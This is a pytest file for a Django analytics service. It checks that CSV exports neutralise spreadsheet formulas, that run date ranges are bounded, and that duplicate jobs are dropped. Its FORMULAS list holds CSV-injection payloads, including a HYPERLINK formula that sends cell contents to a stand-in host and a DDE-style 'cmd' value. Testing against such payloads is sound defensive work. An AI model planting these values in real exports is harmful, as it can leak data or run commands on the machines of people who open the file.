"""Values publishers, subscribers and operators choose, against the analytics: a spreadsheet opens
the CSV of a real run without running a formula, and a run's range and jobs are bounded."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from django.contrib.auth.models import Group, User

from hpwsn_site import state
from spark import keys
from spark.eventlog import EventLog
from spark.models import AnalyticsRun
from spark.services import analytics_run_create, analytics_run_execute

pytestmark = pytest.mark.django_db
LOCAL = "django.contrib.auth.backends.ModelBackend"  # no directory in these tests

T0 = datetime(2026, 11, 3, 10, tzinfo=UTC).timestamp()
# What a spreadsheet runs when a cell starts with =, +, -, @, a tab or a carriage return.
FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1+cmd|x!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)


def _user(name: str, group: str) -> User:
    user = User.objects.create_user(name, password="pw-" + name)
    user.groups.add(Group.objects.get_or_create(name=group)[0])
    return user


def _csv(client, run: AnalyticsRun, job: str) -> list[list[str]]:  # type: ignore[no-untyped-def]
    res = client.get(f"/analytics/runs/{run.id}/{job}.csv")
    assert res.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(res.streaming_content).decode())))


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(  # type: ignore[no-untyped-def]
    spark, client, tmp_path, settings
):
    root = tmp_path / "events"
    log = EventLog(root)
    for i, value in enumerate(FORMULAS):
        for k in range(i + 1):  # distinct counts: each value has a rank of its own
            ts = T0 + 60 * (10 * i + k)
            nid = f"{i:016x}{k:016x}"
            accepted = {"nid": nid, "topic": "ALL:A", "publisher": value, "policy": "fast"}
            log.emit("accepted", ts=ts, bytes=10, **accepted)
            failed = {"consumer": value + ":80", "status": None, "error": "connect"}
            log.emit(
                "attempt",
                ts=ts + 1,
                sub=f"s{i}",
                batch=nid,
                messages=1,
                bytes=10,
                duration_ms=2.0,
                **failed,
            )
            log.flush(now=ts)
    log.close()
    settings.HPWSN_EVENTS_URI = root.as_uri()
    settings.HPWSN_ANALYTICS_DIR = tmp_path / "analytics"
    state.get_redis().delete(keys.LEASE)
    run = analytics_run_create(
        since=datetime.fromtimestamp(T0, tz=UTC),
        until=datetime.fromtimestamp(T0 + 3600, tz=UTC),
        jobs=["top_n", "consumer_health"],
    )
    done = analytics_run_execute(run_id=str(run.id), spark=spark)
    assert done.status == AnalyticsRun.Status.SUCCEEDED, done.error

    client.force_login(_user("ana", "hpwsn-analysts"), backend=LOCAL)
    top = _csv(client, run, "top_n")
    assert top[0] == ["ranking", "rank", "key", "value"]
    publishers = {row[2]: row for row in top[1:] if row[0] == "publishers_by_volume"}
    consumers = {row[2]: row for row in top[1:] if row[0] == "consumers_by_failures"}
    for i, value in enumerate(FORMULAS):
        # The text as the publisher sent it, after a quote that makes the spreadsheet show it.
        _ranking, rank, _key, count = publishers["'" + value]
        assert (rank, count) == (str(len(FORMULAS) - i), f"{i + 1}.0")
        assert "'" + value + ":80" in consumers
    health = _csv(client, run, "consumer_health")
    shown = {row[0] for row in health[1:]}
    assert shown == {"'" + value + ":80" for value in FORMULAS}
    # Numbers stay numbers: only text is quoted.
    assert all(not cell.startswith("'") for row in health[1:] for cell in row[1:])


def _operator_posts(client, form: dict[str, object]):  # type: ignore[no-untyped-def]
    client.force_login(_user("op", "hpwsn-operators"), backend=LOCAL)
    return client.post("/analytics/runs/", form)


@pytest.mark.parametrize(
    ("since", "until", "detail"),
    [
        ("1970-01-02T00:00", "9000-01-01T00:00", "at most 366 days"),
        ("2026-01-01T00:00", "2027-01-03T00:00", "at most 366 days"),
        ("0001-01-01T00:00", "0001-01-02T00:00", "between 1970-01-01 and 9999-01-01"),
        ("9999-12-31T00:00", "9999-12-31T23:30", "between 1970-01-01 and 9999-01-01"),
    ],
)
def test_a_range_of_centuries_or_outside_the_logs_time_is_refused(client, since, until, detail):  # type: ignore[no-untyped-def]
    res = _operator_posts(client, {"since": since, "until": until})
    assert res.status_code == 400
    assert res["Content-Type"] == "application/problem+json"
    assert detail in res.json()["detail"]
    assert AnalyticsRun.objects.count() == 0


def test_a_range_of_the_longest_allowed_span_is_queued(client, django_capture_on_commit_callbacks):  # type: ignore[no-untyped-def]
    with django_capture_on_commit_callbacks(execute=False):
        res = _operator_posts(client, {"since": "2026-01-01T00:00", "until": "2027-01-02T00:00"})
    assert res.status_code == 202, res.content


def test_a_job_named_many_times_runs_once(client, django_capture_on_commit_callbacks):  # type: ignore[no-untyped-def]
    with django_capture_on_commit_callbacks(execute=False):
        res = _operator_posts(
            client,
            {
                "since": "2026-11-01T00:00",
                "until": "2026-11-02T00:00",
                "job": ["top_n"] * 500 + ["sizes", "top_n"],
            },
        )
    assert res.status_code == 202, res.content
    assert AnalyticsRun.objects.get(id=res.json()["id"]).jobs == ["top_n", "sizes"]
